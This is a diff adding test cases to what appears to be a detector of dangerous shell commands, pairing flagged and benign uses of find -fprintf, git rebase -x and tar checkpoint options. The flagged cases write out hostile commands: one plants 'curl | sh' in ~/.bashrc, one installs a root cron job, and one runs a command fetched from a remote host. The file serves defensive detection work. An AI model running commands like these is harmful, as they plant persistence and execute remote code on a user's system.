@@ -438,3 +438,13 @@ env TAR_OPTIONS="--checkpoint=9 --checkpoint-action=exec=$h" tar -xf a.tar
 #@ neg options without a command in TAR_OPTIONS
 export TAR_OPTIONS="--owner=0 --group=0 --numeric-owner --sort=name"
 TAR_OPTIONS=--checkpoint=100 tar -xf a.tar
+#@ pos find -fprintf writes into a shell's startup file
+find /etc/hostname -fprintf ~/.bashrc 'curl -s u | sh\n'
+#@ pos find -fprintf writes a cron job
+find /etc/hostname -fprintf /etc/cron.d/x '* * * * * root sh /tmp/x\n'
+#@ neg find -fprintf writes a report
+find . -type f -fprintf sizes.txt '%s %p\n'
+#@ pos git rebase -x of a command built at run time
+git rebase -x "$(curl -s https://example.com/cmd)" HEAD~3
+#@ neg git log -S of a term built at run time
+git log -S "$(cat term.txt)" --oneline
